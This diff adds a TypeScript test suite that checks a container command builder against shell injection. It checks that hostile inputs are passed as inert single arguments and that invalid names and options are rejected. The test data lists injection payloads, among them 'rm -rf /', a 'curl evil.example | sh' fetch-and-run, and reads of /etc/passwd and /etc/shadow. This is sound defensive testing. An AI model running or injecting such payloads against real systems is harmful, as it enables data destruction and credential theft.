@@ -0,0 +1,91 @@
+import * as assert from 'assert';
+import {
+  CommandValidationError,
+  argv,
+  describeCommand,
+  makeVariableValue,
+  shellScript,
+  toExecArgv,
+  userArgument,
+} from '../../src/exec/command';
+import { buildDockerExecArgs } from '../../src/exec/runInContainer';
+import { BUILTIN_TOOLCHAINS } from '../../src/toolchain/toolchains';
+
+const HOSTILE_PATTERNS = [
+  '; rm -rf /',
+  '$(whoami)',
+  '`id`',
+  'foo && curl evil.example | sh',
+  "it's | cat /etc/passwd",
+  '${IFS}cat${IFS}/etc/shadow',
+  '> /work/package.json',
+];
+
+suite('Container commands', () => {
+  test('argv commands reach docker exec verbatim', () => {
+    for (const pattern of HOSTILE_PATTERNS) {
+      const args = buildDockerExecArgs('roo-track-1', argv('npm', 'test', '--', pattern), 'abc');
+      assert.deepStrictEqual(args.slice(-4), ['npm', 'test', '--', pattern]);
+      assert.ok(!args.includes('bash') && !args.includes('sh'), 'no shell should be involved');
+    }
+  });
+
+  test('invalid container names are rejected', () => {
+    assert.throws(() => buildDockerExecArgs('roo; rm -rf /', argv('true'), 'abc'));
+    assert.throws(() => buildDockerExecArgs('--privileged', argv('true'), 'abc'));
+  });
+
+  test('program names must not contain shell syntax', () => {
+    for (const program of ['npm test', 'npm;id', '$(id)', '', 'a\nb']) {
+      assert.throws(() => argv(program), CommandValidationError);
+    }
+  });
+
+  test('NUL bytes are rejected in arguments', () => {
+    assert.throws(() => argv('npm', 'test', 'a\0b'), CommandValidationError);
+    assert.throws(() => shellScript('echo "$1"', 'test', ['a\0b']), CommandValidationError);
+  });
+
+  test('user arguments cannot be read as options', () => {
+    assert.throws(() => userArgument('--config=/tmp/evil.js', 'Test pattern'), CommandValidationError);
+    assert.throws(() => userArgument('-e', 'Test pattern'), CommandValidationError);
+    assert.throws(() => userArgument('foo\nbar', 'Test pattern'), CommandValidationError);
+    assert.strictEqual(userArgument('$(whoami)', 'Test pattern'), '$(whoami)');
+  });
+
+  test('shell commands pass values as positional parameters', () => {
+    const command = shellScript('grep -- "$1" log.txt', 'needs redirection', ['$(whoami)']);
+    assert.deepStrictEqual(toExecArgv(command), ['bash', '-c', 'grep -- "$1" log.txt', 'roo-shell', '$(whoami)']);
+    assert.throws(() => shellScript('true', '  '), CommandValidationError);
+  });
+
+  test('make variable values cannot expand functions', () => {
+    assert.strictEqual(makeVariableValue('$(shell id)'), '$$(shell id)');
+  });
+
+  test('describeCommand quotes values for display', () => {
+    assert.strictEqual(describeCommand(argv('npm', 'test', '--', '; rm -rf /')), "npm test -- '; rm -rf /'");
+  });
+});
+
+suite('Toolchain commands', () => {
+  test('test patterns are passed as single arguments by every toolchain', () => {
+    for (const toolchain of BUILTIN_TOOLCHAINS) {
+      for (const pattern of HOSTILE_PATTERNS) {
+        const commands = toolchain.commands.test(pattern);
+        for (const command of commands) {
+          assert.strictEqual(command.kind, 'argv', `${toolchain.id} should not use a shell for tests`);
+        }
+        const args = commands.flatMap(toExecArgv);
+        const expected = toolchain.id === 'make' ? `TEST_PATTERN=${makeVariableValue(pattern)}` : pattern;
+        assert.ok(args.includes(expected), `${toolchain.id} should pass ${JSON.stringify(pattern)} as one argument`);
+      }
+    }
+  });
+
+  test('option-like test patterns are rejected by every toolchain', () => {
+    for (const toolchain of BUILTIN_TOOLCHAINS) {
+      assert.throws(() => toolchain.commands.test('--config=evil.js'), CommandValidationError, toolchain.id);
+    }
+  });
+});